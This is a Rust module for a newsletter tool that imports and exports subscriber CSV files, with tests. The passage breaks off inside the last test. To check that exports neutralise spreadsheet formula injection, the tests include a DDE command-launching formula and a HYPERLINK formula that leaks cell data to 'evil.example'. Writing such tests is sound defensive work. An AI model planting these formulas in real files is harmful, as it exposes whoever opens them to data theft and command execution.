//! The subscriber CSV file: what `gazette subscribers import` reads and
//! `export` writes.
//!
//! Reading:
//! - UTF-8 with or without a BOM, CRLF or LF line ends, RFC 4180 quoting
//!   (commas, quotes and line breaks inside quoted fields).
//! - The first row is the header. It must have an `email` column; `name` and
//!   `status` are optional. Header names are matched ignoring case and
//!   surrounding blanks, in any order. Other columns are ignored, with one
//!   warning naming them (so exports of other tools import as they are).
//! - A row may have fewer fields than the header (the missing ones are empty),
//!   not more (that is usually an unquoted comma in a name). Rows whose fields
//!   are all blank are ignored like blank lines.
//! - Each bad row is skipped with its line (the header is line 1; a quoted
//!   line break counts, so lines match an editor's) and every reason: invalid
//!   address, control characters in address or name, bad status, or a
//!   duplicate (ignoring case) of an earlier good row.
//! - `status` defaults to `active`: an admin importing a list imports people
//!   who already subscribed.
//! - Bytes that are not UTF-8 stop the whole import with the line they are on:
//!   a file in another encoding would otherwise be imported garbled.
//!
//! - A row longer than [`MAX_ROW_BYTES`] is skipped unread (it is almost
//!   surely an unclosed quote that swallowed the lines after it), and values
//!   quoted in messages are cut to their first [`SHOWN_CHARS`] characters and
//!   their length, so a runaway field cannot flood the terminal or a log.
//!
//! Writing: header `email,name,status`, quoted where needed, LF line ends, in
//! the order given. A cell that a spreadsheet would run as a formula (one
//! starting with `=`, `+`, `-`, `@`, a tab or a CR) is written with a leading
//! `'`, which spreadsheets show as text ([`neutralise`]); reading removes it
//! again ([`restore`]), so reading what was written gives the same rows back,
//! for every value, one that starts with `'` included.

use std::collections::HashMap;
use std::io::{Read, Write};
use std::sync::{Arc, Mutex};

use super::{Status, SubscriberEmail, SubscriberName, SubscriberRow};

/// What reading a CSV file gave: good rows (with their line), skipped rows
/// and warnings.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct CsvImport {
    pub rows: Vec<(u64, SubscriberRow)>,
    pub skipped: Vec<LineNote>,
    pub warnings: Vec<LineNote>,
}

/// A line of the file and what is wrong with it. Shown as `FILE:LINE: reason`.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct LineNote {
    pub line: u64,
    pub reason: String,
}

/// Problems that stop the whole import. `line()` tells where; the message
/// does not repeat it, so callers can print `FILE:LINE: message`.
#[derive(Debug, thiserror::Error)]
pub enum CsvError {
    #[error("the file is empty; the first line must be a header with an `email` column")]
    Empty,
    #[error(
        "the header has no `email` column (found: {}); the first line must name the columns, e.g. `email,name,status`",
        .found.iter().map(|f| shown(f)).collect::<Vec<_>>().join(", ")
    )]
    NoEmailColumn { found: Vec<String> },
    #[error("the header names the column `{name}` twice")]
    DuplicateColumn { name: String },
    #[error(
        "byte 0x{byte:02X} is not UTF-8; save the file as UTF-8 (it may be Latin-1 or Windows-1252) and import it again"
    )]
    NotUtf8 { line: u64, byte: u8 },
    #[error("cannot read the file: {message}")]
    Read { line: u64, message: String },
    #[error(
        "a row of {bytes} bytes (at most {MAX_ROW_BYTES} are read); is a closing quote missing?"
    )]
    LongRow { line: u64, bytes: usize },
}

impl CsvError {
    pub fn line(&self) -> u64 {
        match self {
            CsvError::Empty | CsvError::NoEmailColumn { .. } | CsvError::DuplicateColumn { .. } => {
                1
            }
            CsvError::NotUtf8 { line, .. }
            | CsvError::Read { line, .. }
            | CsvError::LongRow { line, .. } => *line,
        }
    }
}

fn read_error(e: csv::Error) -> CsvError {
    CsvError::Read {
        line: e.position().map_or(1, |p| p.line()),
        message: e.to_string(),
    }
}

/// Decode one record as UTF-8, or say on which line the first bad byte is.
fn decode(record: &csv::ByteRecord, first_line: u64) -> Result<Vec<&str>, CsvError> {
    let mut line = first_line;
    let mut fields = Vec::with_capacity(record.len());
    for field in record.iter() {
        match std::str::from_utf8(field) {
            Ok(s) => {
                line += s.bytes().filter(|&b| b == b'\n').count() as u64;
                fields.push(s);
            }
            Err(e) => {
                let good = &field[..e.valid_up_to()];
                line += good.iter().filter(|&&b| b == b'\n').count() as u64;
                let byte = field.get(e.valid_up_to()).copied().unwrap_or(0);
                return Err(CsvError::NotUtf8 { line, byte });
            }
        }
    }
    Ok(fields)
}

struct Columns {
    email: usize,
    name: Option<usize>,
    status: Option<usize>,
    count: usize,
}

fn columns(header: &[&str]) -> Result<(Columns, Vec<String>), CsvError> {
    let mut email = None;
    let mut name = None;
    let mut status = None;
    let mut unknown = Vec::new();
    for (i, raw) in header.iter().enumerate() {
        let h = raw.trim_start_matches('\u{feff}').trim();
        let slot = match h.to_ascii_lowercase().as_str() {
            "email" => &mut email,
            "name" => &mut name,
            "status" => &mut status,
            _ => {
                unknown.push(h.to_string());
                continue;
            }
        };
        if slot.replace(i).is_some() {
            return Err(CsvError::DuplicateColumn {
                name: h.to_ascii_lowercase(),
            });
        }
    }
    let email = email.ok_or_else(|| CsvError::NoEmailColumn {
        found: header
            .iter()
            .map(|h| h.trim_start_matches('\u{feff}').trim().to_string())
            .collect(),
    })?;
    Ok((
        Columns {
            email,
            name,
            status,
            count: header.len(),
        },
        unknown,
    ))
}

const STATUS_CHOICES: &str = "pending, active, unsubscribed or bounced";

/// Longest row an import reads. An address is at most 254 bytes and a name
/// 200 characters; the rest leaves room for other tools' extra columns.
pub const MAX_ROW_BYTES: usize = 64 * 1024;

/// How much of a value a message quotes.
pub const SHOWN_CHARS: usize = 60;

/// What a spreadsheet takes for the start of a formula.
fn is_formula_start(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// Whether `s` is `'` repeated (zero or more times) before a formula start:
/// those are the values [`neutralise`] prefixes, so that [`restore`] can
/// tell its own `'` from one the value began with.
fn quotes_then_formula(s: &str) -> bool {
    s.trim_start_matches('\'').starts_with(is_formula_start)
}

/// A cell a spreadsheet shows as text: `'` before a value that starts like
/// a formula, or like an already neutralised one (`'=...`, `''=...`); any
/// other value as it is. [`restore`] undoes it exactly.
pub fn neutralise(value: &str) -> std::borrow::Cow<'_, str> {
    if quotes_then_formula(value) {
        format!("'{value}").into()
    } else {
        value.into()
    }
}

/// The inverse of [`neutralise`]: one leading `'` removed from `'=...`,
/// `''=...`; anything else (a name such as `'Tis Jones` included) as it is.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if quotes_then_formula(rest) => rest,
        _ => cell,
    }
}

/// A value for a message: quoted, and cut to its first [`SHOWN_CHARS`]
/// characters and its length when longer.
fn shown(value: &str) -> String {
    let len = value.chars().count();
    if len <= SHOWN_CHARS {
        format!("{value:?}")
    } else {
        let head: String = value.chars().take(SHOWN_CHARS).collect();
        format!("{head:?}... ({len} characters)")
    }
}

/// The bytes the CSV parser has taken from the input and [`Lines`] has not
/// dropped yet: a little before the record being read, the record, and
/// what the parser read ahead. [`Lines`] counts line breaks in it and drops
/// what it passed, so reading a file of any size holds a record and a few
/// buffers of it.
#[derive(Debug, Default)]
struct Window {
    /// Offset in the input of `buf[0]`.
    base: u64,
    buf: Vec<u8>,
}

/// Bytes passed that the [`Window`] may keep before it drops them.
const WINDOW_KEEP: usize = 64 * 1024;

/// The input as the CSV parser reads it, copied into the [`Window`].
struct Tee<R> {
    inner: R,
    window: Arc<Mutex<Window>>,
}

impl<R: Read> Read for Tee<R> {
    /// Fills `out` unless the input ends: the csv crate looks for a BOM in
    /// what its first read gave, and an input that hands out a byte at a
    /// time (a pipe) would hide it.
    fn read(&mut self, out: &mut [u8]) -> std::io::Result<usize> {
        let mut n = 0;
        while n < out.len() {
            match self.inner.read(&mut out[n..]) {
                Ok(0) => break,
                Ok(k) => n += k,
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                Err(e) => return Err(e),
            }
        }
        lock(&self.window).buf.extend_from_slice(&out[..n]);
        Ok(n)
    }
}

fn lock(w: &Mutex<Window>) -> std::sync::MutexGuard<'_, Window> {
    w.lock().unwrap_or_else(|e| e.into_inner())
}

/// Counts lines up to where each record starts. (The csv crate's own
/// positions point just past the previous record's terminator, before any
/// blank lines or the LF of a CRLF, so its line numbers drift.)
struct Lines {
    window: Arc<Mutex<Window>>,
    /// Where the last record started (an offset in the input).
    offset: u64,
    line: u64,
}

impl Lines {
    /// The line of the record the reader just returned.
    fn of(&mut self, record: &csv::ByteRecord) -> u64 {
        let mut w = lock(&self.window);
        let end = w.base + w.buf.len() as u64;
        let mut start = record
            .position()
            .map_or(self.offset, |p| p.byte())
            .clamp(self.offset, end);
        let at = |w: &Window, i: u64| w.buf.get(usize::try_from(i - w.base).ok()?).copied();
        while matches!(at(&w, start), Some(b'\r' | b'\n')) {
            start += 1;
        }
        let from = usize::try_from(self.offset - w.base).unwrap_or(0);
        let to = usize::try_from(start - w.base).unwrap_or(from);
        self.line += memchr::memchr_iter(b'\n', &w.buf[from..to]).count() as u64;
        self.offset = start;
        // What is before `start` is done with; dropped in large pieces, not
        // per record (each drop moves the read-ahead behind it).
        if to >= WINDOW_KEEP {
            w.buf.drain(..to);
            w.base = start;
        }
        self.line
    }
}

/// A good row as [`Reader`] gives it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReadRow {
    pub line: u64,
    pub row: SubscriberRow,
}

/// A subscriber CSV read a piece at a time ([`Reader::next_rows`]), from any
/// input: a file is never held whole in memory. Bad rows gather in
/// `skipped`, notes on the header in `warnings`. Addresses enter under
/// [`SubscriberEmail::parse_new`] with `smtputf8` (`mail.smtputf8`): one
/// the mailer could not mail is a skipped row.
///
/// A row that repeats an earlier row's address is a good row here: the
/// reader keeps nothing per row, so a file of any length reads in the same
/// memory. [`read`] (a whole file in memory) finds duplicates itself; an
/// import learns of them from the store, whose unique index sees them.
pub struct Reader<R> {
    csv: csv::Reader<Tee<R>>,
    lines: Lines,
    cols: Columns,
    record: csv::ByteRecord,
    smtputf8: bool,
    pub skipped: Vec<LineNote>,
    pub warnings: Vec<LineNote>,
}

impl<R: Read> Reader<R> {
    /// Read the header. Only a file that cannot be read as a whole (no
    /// header, no `email` column, a header that is not UTF-8) is an error.
    pub fn new(input: R, smtputf8: bool) -> Result<Reader<R>, CsvError> {
        let window = Arc::new(Mutex::new(Window::default()));
        let mut csv = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(Tee {
                inner: input,
                window: window.clone(),
            });
        let mut lines = Lines {
            window,
            offset: 0,
            line: 1,
        };
        let mut warnings = Vec::new();
        let mut record = csv::ByteRecord::new();
        if !csv.read_byte_record(&mut record).map_err(read_error)? {
            return Err(CsvError::Empty);
        }
        let header_line = lines.of(&record);
        if record.as_slice().len() > MAX_ROW_BYTES {
            return Err(CsvError::LongRow {
                line: header_line,
                bytes: record.as_slice().len(),
            });
        }
        let header = decode(&record, header_line)?;
        let (cols, unknown) = columns(&header)?;
        if !unknown.is_empty() {
            let names: Vec<String> = unknown.iter().map(|u| shown(u)).collect();
            warnings.push(LineNote {
                line: header_line,
                reason: format!(
                    "ignoring {} gazette does not use: {}",
                    if unknown.len() == 1 {
                        "a column"
                    } else {
                        "columns"
                    },
                    names.join(", ")
                ),
            });
        }
        Ok(Reader {
            csv,
            lines,
            cols,
            record,
            smtputf8,
            skipped: Vec::new(),
            warnings,
        })
    }

    /// How far into the input the parser has read, in bytes.
    pub fn bytes_read(&self) -> u64 {
        let w = lock(&self.lines.window);
        w.base + w.buf.len() as u64
    }

    /// Up to `max` more good rows, in file order; none at the end. Bad rows
    /// met on the way go to `skipped`. A byte that is not UTF-8 is an error
    /// with its line.
    pub fn next_rows(&mut self, max: usize) -> Result<Vec<ReadRow>, CsvError> {
        let mut out = Vec::new();
        while out.len() < max.max(1) {
            if !self
                .csv
                .read_byte_record(&mut self.record)
                .map_err(read_error)?
            {
                break;
            }
            let line = self.lines.of(&self.record);
            if let Some(row) = self.row(line)? {
                out.push(row);
            }
        }
        Ok(out)
    }

    /// The record just read (on `line`): a good row, or a note in `skipped`
    /// (or nothing, for a blank row).
    fn row(&mut self, line: u64) -> Result<Option<ReadRow>, CsvError> {
        let record = &self.record;
        let cols = &self.cols;
        if record.as_slice().len() > MAX_ROW_BYTES {
            self.skipped.push(LineNote {
                line,
                reason: format!(
                    "a row of {} bytes, not read (at most {MAX_ROW_BYTES}); is a closing quote missing?",
                    record.as_slice().len()
                ),
            });
            return Ok(None);
        }
        let fields = decode(record, line)?;
        if fields.iter().all(|f| f.trim().is_empty()) {
            return Ok(None);
        }
        if fields.len() > cols.count {
            self.skipped.push(LineNote {
                line,
                reason: format!(
                    "{} fields where the header has {} (put a value that contains a comma in double quotes)",
                    fields.len(),
                    cols.count
                ),
            });
            return Ok(None);
        }
        let get =
            |i: Option<usize>| restore(i.and_then(|i| fields.get(i)).copied().unwrap_or("").trim());

        let mut reasons = Vec::new();
        let raw_email = get(Some(cols.email));
        let email = if raw_email.trim().is_empty() {
            reasons.push("no address".to_string());
            None
        } else {
            match SubscriberEmail::parse_new(raw_email, self.smtputf8) {
                Ok(e) => Some(e),
                Err(e) => {
                    reasons.push(format!("invalid address {}: {e}", shown(raw_email)));
                    None
                }
            }
        };
        let raw_name = get(cols.name);
        let name = match SubscriberName::parse(raw_name) {
            Ok(n) => n,
            Err(e) => {
                reasons.push(format!("invalid name {}: {e}", shown(raw_name)));
                None
            }
        };
        let raw_status = get(cols.status);
        let status = if raw_status.trim().is_empty() {
            Status::Active
        } else {
            match Status::parse(raw_status) {
                Some(s) => s,
                None => {
                    reasons.push(format!(
                        "bad status {} (expected {STATUS_CHOICES})",
                        shown(raw_status)
                    ));
                    Status::Active
                }
            }
        };
        let Some(email) = email else {
            self.skipped.push(LineNote {
                line,
                reason: reasons.join("; "),
            });
            return Ok(None);
        };
        if !reasons.is_empty() {
            self.skipped.push(LineNote {
                line,
                reason: reasons.join("; "),
            });
            return Ok(None);
        }
        Ok(Some(ReadRow {
            line,
            row: SubscriberRow {
                email,
                name,
                status,
            },
        }))
    }
}

/// The reason of a row skipped as a duplicate of the good row on `first`.
pub fn duplicate_reason(first: u64, email: &SubscriberEmail) -> String {
    format!("duplicate of line {first} ({email})")
}

/// Read a whole subscriber CSV held in memory: [`Reader`] to the end, a
/// row whose address (ignoring case) an earlier good row had skipped as a
/// duplicate naming that row's line. Bad rows are collected in `skipped`;
/// only a file that cannot be read as a whole (no header, not UTF-8) is an
/// error.
pub fn read(data: &[u8], smtputf8: bool) -> Result<CsvImport, CsvError> {
    let mut reader = Reader::new(data, smtputf8)?;
    let mut out = CsvImport::default();
    let mut duplicates = Vec::new();
    let mut seen: HashMap<String, u64> = HashMap::new();
    loop {
        let rows = reader.next_rows(4096)?;
        if rows.is_empty() {
            break;
        }
        for r in rows {
            match seen.get(&r.row.email.key()) {
                Some(&first) => duplicates.push(LineNote {
                    line: r.line,
                    reason: duplicate_reason(first, &r.row.email),
                }),
                None => {
                    seen.insert(r.row.email.key(), r.line);
                    out.rows.push((r.line, r.row));
                }
            }
        }
    }
    out.skipped = reader.skipped;
    out.skipped.extend(duplicates);
    out.skipped.sort_by_key(|n| n.line);
    out.warnings = reader.warnings;
    Ok(out)
}

/// Whether `input` is UTF-8 throughout, read in blocks (a file of any size
/// in constant memory); the first bad byte is an error with its line. The
/// import checks this before it saves anything, so a file in another
/// encoding is refused whole rather than after its first rows were saved.
pub fn check_utf8(mut input: impl Read) -> Result<(), CsvError> {
    let mut buf = vec![0u8; 1 << 20];
    // Bytes of a character cut by the end of the last block.
    let mut carry = 0usize;
    let mut line = 1u64;
    loop {
        let n = input.read(&mut buf[carry..]).map_err(|e| CsvError::Read {
            line,
            message: e.to_string(),
        })?;
        let len = carry + n;
        let block = &buf[..len];
        match std::str::from_utf8(block) {
            Ok(_) if n == 0 => return Ok(()),
            Ok(_) => {
                carry = 0;
                line += memchr::memchr_iter(b'\n', block).count() as u64;
            }
            Err(e) => {
                let good = e.valid_up_to();
                line += memchr::memchr_iter(b'\n', &block[..good]).count() as u64;
                // An incomplete character at the very end of a block that
                // is not the last: read on.
                if e.error_len().is_none() && n > 0 {
                    buf.copy_within(good..len, 0);
                    carry = len - good;
                    continue;
                }
                return Err(CsvError::NotUtf8 {
                    line,
                    byte: block.get(good).copied().unwrap_or(0),
                });
            }
        }
    }
}

/// Write rows as CSV with the header `email,name,status`.
pub fn write<'a, W: Write>(
    output: W,
    rows: impl IntoIterator<Item = &'a SubscriberRow>,
) -> Result<(), csv::Error> {
    write_part(output, true, rows)
}

/// [`write`] in pieces, for an export streamed a chunk at a time: the
/// header only with the first piece. The pieces joined are what [`write`]
/// gives for all the rows.
pub fn write_part<'a, W: Write>(
    output: W,
    header: bool,
    rows: impl IntoIterator<Item = &'a SubscriberRow>,
) -> Result<(), csv::Error> {
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(output);
    if header {
        w.write_record(["email", "name", "status"])?;
    }
    for r in rows {
        w.write_record([
            neutralise(r.email.as_str()).as_ref(),
            neutralise(r.name.as_ref().map_or("", |n| n.as_str())).as_ref(),
            r.status.as_str(),
        ])?;
    }
    w.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn notes(v: &[LineNote]) -> Vec<String> {
        v.iter()
            .map(|n| format!("{}: {}", n.line, n.reason))
            .collect()
    }

    fn emails(i: &CsvImport) -> Vec<(u64, &str)> {
        i.rows.iter().map(|(l, r)| (*l, r.email.as_str())).collect()
    }

    #[test]
    fn reads_bom_crlf_quotes_and_any_header_order() {
        let text = "\u{feff}Status , NAME,Email\r\n\
                    pending,\"Lee, Ann \"\"Annie\"\"\",ann@example.org\r\n\
                    ,Zoë Álvarez,zoe@Example.NET\r\n\
                    \r\n\
                    bounced,,old@example.org\r\n";
        let got = read(text.as_bytes(), false).unwrap();
        assert_eq!(got.skipped, vec![]);
        assert_eq!(got.warnings, vec![]);
        assert_eq!(
            emails(&got),
            vec![
                (2, "ann@example.org"),
                (3, "zoe@example.net"),
                (5, "old@example.org")
            ]
        );
        let r = &got.rows[0].1;
        assert_eq!(
            r.name.as_ref().map(|n| n.as_str()),
            Some("Lee, Ann \"Annie\"")
        );
        assert_eq!(r.status, Status::Pending);
        assert_eq!(got.rows[1].1.status, Status::Active, "default status");
        assert_eq!(got.rows[2].1.name, None);
        assert_eq!(got.rows[2].1.status, Status::Bounced);
    }

    /// An input that hands out at most `step` bytes a read, as a pipe or a
    /// slow disk may.
    struct Trickle<'a> {
        data: &'a [u8],
        step: usize,
    }

    impl Read for Trickle<'_> {
        fn read(&mut self, out: &mut [u8]) -> std::io::Result<usize> {
            let n = self.step.min(out.len()).min(self.data.len());
            out[..n].copy_from_slice(&self.data[..n]);
            self.data = &self.data[n..];
            Ok(n)
        }
    }

    /// Everything `Reader` gives over `input`: good rows with their line and
    /// duplicate mark, then the skipped rows' notes.
    /// A good row as the tests compare it: line, address.
    type Seen = (u64, String);

    fn stream(input: impl Read, chunk: usize) -> (Vec<Seen>, Vec<String>) {
        let mut r = Reader::new(input, false).unwrap();
        let mut rows = Vec::new();
        loop {
            let got = r.next_rows(chunk).unwrap();
            if got.is_empty() {
                break;
            }
            assert!(got.len() <= chunk);
            rows.extend(got.into_iter().map(|g| (g.line, g.row.email.to_string())));
        }
        (rows, notes(&r.skipped))
    }

    #[test]
    fn a_stream_read_in_any_pieces_gives_the_same_rows_lines_and_notes() {
        // Quoted line breaks, CRLF and blank lines, a duplicate, a bad row;
        // long enough to pass the window's drop point many times.
        let mut text = String::from("\u{feff}email,name\r\n\r\n");
        for i in 0..3000 {
            match i % 500 {
                7 => text.push_str(&format!("\"r{i}@example.org\",\"Two\r\nlines\"\r\n")),
                8 => text.push_str("not an address,x\n\n"),
                9 => text.push_str("R1@EXAMPLE.ORG,again\r\n"),
                _ => text.push_str(&format!("r{i}@example.org,Reader {i}\r\n")),
            }
        }
        let whole = stream(text.as_bytes(), 100_000);
        // Good rows, the repeats of r1 among them (the reader keeps no
        // addresses: duplicates are for `read` or the store to tell).
        assert_eq!(whole.0.len(), 3000 - 6 - 6, "good rows");
        assert_eq!(whole.0[0], (3, "r0@example.org".to_string()));
        let r1: Vec<_> = whole.0.iter().filter(|r| r.1 == "R1@example.org").collect();
        assert_eq!(r1.len(), 6);
        assert_eq!(whole.1.len(), 12, "{:?}", whole.1);
        assert!(
            whole.1[0].ends_with("contains a line break"),
            "{:?}",
            whole.1
        );
        for (step, chunk) in [(1, 7), (3, 1), (4096, 1000), (65_537, 3)] {
            let input = Trickle {
                data: text.as_bytes(),
                step,
            };
            assert_eq!(stream(input, chunk), whole, "{step} bytes a read");
        }
        // The lines are an editor's: the line each row's address is on.
        let by_line: Vec<&str> = text.split('\n').collect();
        for (line, email) in &whole.0 {
            let at = by_line[*line as usize - 1].to_lowercase();
            assert!(at.contains(&email.to_lowercase()), "{line}: {at} / {email}");
        }
    }

    #[test]
    fn the_utf8_check_reads_in_blocks_and_names_the_bad_line() {
        // A character cut by the 1 MiB block boundary is fine.
        let mut text = "a".repeat((1 << 20) - 1);
        text.push('é');
        text.push_str("\nok\n");
        assert!(
            check_utf8(Trickle {
                data: text.as_bytes(),
                step: 1 << 20
            })
            .is_ok()
        );
        assert!(check_utf8(text.as_bytes()).is_ok());
        // A bad byte on line 3, past a block; a cut character at the end.
        let mut bad = text.clone().into_bytes();
        bad.extend_from_slice(b"caf\xe9\n");
        let e = check_utf8(&bad[..]).unwrap_err();
        assert!(
            matches!(
                e,
                CsvError::NotUtf8 {
                    line: 3,
                    byte: 0xE9
                }
            ),
            "{e:?}"
        );
        let cut = &"x\ny\né".as_bytes()[..5];
        let e = check_utf8(cut).unwrap_err();
        assert!(matches!(e, CsvError::NotUtf8 { line: 3, .. }), "{e:?}");
        assert!(check_utf8(&b""[..]).is_ok());
    }

    #[test]
    fn line_numbers_count_blank_lines_crlf_and_quoted_line_breaks() {
        let text = "\r\n\
                    email,name\r\n\
                    \r\n\
                    ann@example.org,\"Ann\r\nLee\"\r\n\
                    \"bad\r\naddress\",x\r\n\
                    \r\n\
                    \r\n\
                    bob@example.org,Bob\n\
                    \n\
                    also bad\n\
                    cat@example.org";
        let got = read(text.as_bytes(), false).unwrap();
        assert_eq!(
            notes(&got.skipped),
            vec![
                "4: invalid name \"Ann\\r\\nLee\": contains a line break",
                "6: invalid address \"bad\\r\\naddress\": contains a line break",
                "12: invalid address \"also bad\": contains whitespace",
            ]
        );
        assert_eq!(
            emails(&got),
            vec![(10, "bob@example.org"), (13, "cat@example.org")]
        );
    }

    #[test]
    fn only_an_email_column_is_needed_and_lf_works() {
        let got = read("email\nann@example.org\nbob@example.org".as_bytes(), false).unwrap();
        assert_eq!(
            emails(&got),
            vec![(2, "ann@example.org"), (3, "bob@example.org")]
        );
    }

    #[test]
    fn bad_rows_are_skipped_with_their_line_and_reason() {
        let text = "email,name,status\n\
                    ann@example.org,Ann,active\n\
                    not-an-address,Bob,active\n\
                    \"multi\nline\",Quoted,active\n\
                    cat@example.org,\"Cat\nBcc: x@example.org\",active\n\
                    dan@example.org,Dan,deleted\n\
                    ANN@Example.org,Ann again,active\n\
                    eve@example.org,\"Eve\", active ,extra\n\
                    fay@example.org\n\
                    ,,\n\
                    ,No Address,active\n\
                    gus@example,Gus,maybe\n";
        let got = read(text.as_bytes(), false).unwrap();
        assert_eq!(
            notes(&got.skipped),
            vec![
                "3: invalid address \"not-an-address\": missing @",
                "4: invalid address \"multi\\nline\": contains a line break",
                "6: invalid name \"Cat\\nBcc: x@example.org\": contains a line break",
                "8: bad status \"deleted\" (expected pending, active, unsubscribed or bounced)",
                "9: duplicate of line 2 (ANN@example.org)",
                "10: 4 fields where the header has 3 (put a value that contains a comma in double quotes)",
                "13: no address",
                "14: invalid address \"gus@example\": the domain \"example\" has no dot; bad status \"maybe\" (expected pending, active, unsubscribed or bounced)",
            ]
        );
        assert_eq!(
            emails(&got),
            vec![(2, "ann@example.org"), (11, "fay@example.org")]
        );
    }

    #[test]
    fn unicode_local_parts_are_refused_per_line_unless_smtputf8_and_idn_spellings_are_one() {
        let text = "email\nzoë@bücher.example\nzoe@bücher.example\nzoe@XN--BCHER-KVA.example\n";
        let got = read(text.as_bytes(), false).unwrap();
        assert_eq!(
            notes(&got.skipped),
            vec![
                "2: invalid address \"zoë@bücher.example\": the part before the @ is not ASCII; such an address needs SMTPUTF8, which this publication does not use (mail.smtputf8 is off)",
                "4: duplicate of line 3 (zoe@bücher.example)",
            ]
        );
        assert_eq!(emails(&got), vec![(3, "zoe@bücher.example")]);
        let got = read(text.as_bytes(), true).unwrap();
        assert_eq!(
            emails(&got),
            vec![(2, "zoë@bücher.example"), (3, "zoe@bücher.example")]
        );
    }

    #[test]
    fn duplicates_ignore_case_and_name_the_first_line() {
        let text = "email\nZoë@Example.org\nbob@example.org\nzoË@example.ORG\nBOB@EXAMPLE.ORG\n";
        let got = read(text.as_bytes(), true).unwrap();
        assert_eq!(
            notes(&got.skipped),
            vec![
                "4: duplicate of line 2 (zoË@example.org)",
                "5: duplicate of line 3 (BOB@example.org)"
            ]
        );
        assert_eq!(got.rows.len(), 2);
    }

    #[test]
    fn a_missing_email_column_stops_the_import() {
        let e = read("mail,name\nann@example.org,Ann\n".as_bytes(), false).unwrap_err();
        assert_eq!(e.line(), 1);
        assert!(
            e.to_string()
                .contains("no `email` column (found: \"mail\", \"name\")"),
            "{e}"
        );
        let e = read("".as_bytes(), false).unwrap_err();
        assert!(matches!(e, CsvError::Empty), "{e}");
        let e = read("email,EMAIL\n".as_bytes(), false).unwrap_err();
        assert!(e.to_string().contains("`email` twice"), "{e}");
    }

    #[test]
    fn unknown_columns_are_ignored_with_a_warning() {
        let got = read(
            "email,phone,name,city\nann@example.org,555,Ann,Oslo\n".as_bytes(),
            false,
        )
        .unwrap();
        assert_eq!(
            notes(&got.warnings),
            vec!["1: ignoring columns gazette does not use: \"phone\", \"city\""]
        );
        assert_eq!(got.rows[0].1.name.as_ref().unwrap().as_str(), "Ann");
    }

    #[test]
    fn bytes_that_are_not_utf8_stop_the_import_naming_the_line() {
        let mut text = b"email,name\nann@example.org,Ann\n\"bob@example.org\",\"B\nJos".to_vec();
        text.push(0xE9); // é in Latin-1
        text.extend_from_slice(b"\"\n");
        let e = read(&text[..], false).unwrap_err();
        assert_eq!(e.line(), 4, "{e:?}");
        assert!(e.to_string().contains("0xE9 is not UTF-8"), "{e}");

        let e = read(&b"em\xffail\n"[..], false).unwrap_err();
        assert_eq!(e.line(), 1);
    }

    #[test]
    fn written_rows_read_back_the_same() {
        let rows: Vec<SubscriberRow> = [
            ("ann@example.org", "Lee, Ann \"Annie\"", Status::Active),
            ("zoe@example.net", "Zoë Álvarez", Status::Pending),
            ("old@example.org", "", Status::Unsubscribed),
            ("dead@example.org", "=cmd|' /C calc'!A0", Status::Bounced),
        ]
        .into_iter()
        .map(|(e, n, s)| SubscriberRow {
            email: SubscriberEmail::parse(e).unwrap(),
            name: SubscriberName::parse(n).unwrap(),
            status: s,
        })
        .collect();
        let mut out = Vec::new();
        write(&mut out, &rows).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(
            text.starts_with(
                "email,name,status\nann@example.org,\"Lee, Ann \"\"Annie\"\"\",active\n"
            ),
            "{text}"
        );
        let back = read(text.as_bytes(), false).unwrap();
        assert_eq!(back.skipped, vec![]);
        let back: Vec<SubscriberRow> = back.rows.into_iter().map(|(_, r)| r).collect();
        assert_eq!(back, rows);
    }

    fn row(email: &str, name: &str) -> SubscriberRow {
        SubscriberRow {
            email: SubscriberEmail::parse(email).unwrap(),
            name: SubscriberName::parse(name).unwrap(),
            status: Status::Pending,
        }
    }

    fn export(rows: &[SubscriberRow]) -> String {
        let mut out = Vec::new();
        write(&mut out, rows).unwrap();
        String::from_utf8(out).unwrap()
    }

    /// The cells of the written file, as a spreadsheet receives them.
    fn cells(text: &str) -> Vec<String> {
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        r.records()
            .flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>())
            .collect()
    }

    #[test]
    fn no_exported_cell_starts_like_a_formula_and_each_reads_back() {
        for trigger in ['=', '+', '-', '@', '\t', '\r'] {
            for quotes in 0..4 {
                for tail in [
                    "",
                    "1+2",
                    "HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Open\")",
                    "'x",
                    " y",
                ] {
                    let value = format!("{}{trigger}{tail}", "'".repeat(quotes));
                    let cell = neutralise(&value);
                    assert!(!cell.starts_with(is_formula_start), "{value:?} -> {cell:?}");
                    assert_eq!(cell, format!("'{value}"), "{value:?}");
                    assert_eq!(restore(&cell), value, "{value:?}");
                }
            }
        }
        // What does not start like a formula is left alone, both ways.
        for value in ["Ann", "'Tis Jones", "''", "'", "' =x", "x=1", "", "Zoë"] {
            assert_eq!(neutralise(value), value);
            assert_eq!(restore(value), value);
        }
        // Through the file: the public form's example, and an address.
        let evil = "=HYPERLINK(\"https://evil.example/?leak=\"&A2&B3,\"Open\")";
        let rows = vec![
            row("ann@example.org", evil),
            row("-x@example.org", "@SUM(A1)"),
        ];
        let text = export(&rows);
        for cell in cells(&text) {
            assert!(!cell.starts_with(is_formula_start), "{cell:?} in\n{text}");
        }
        let back: Vec<_> = read(text.as_bytes(), false)
            .unwrap()
            .rows
            .into_iter()
            .map(|(_, r)| r)
            .collect();
        assert_eq!(back, rows);
    }

    #[test]
    fn export_import_export_is_exact_for_generated_names() {
        // A fixed xorshift: the same names every run, many of them made of
        // the characters that matter here.
        let mut state = 0x9E37_79B9_7F4A_7C15_u64;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        let alphabet: Vec<char> = "'=+-@ \",;|!Aaz0ZëΩ✓🙂".chars().collect();
        let mut rows = Vec::new();
        let mut formulas = 0;
        while rows.len() < 5000 {
            let len = 1 + (next() % 8) as usize;
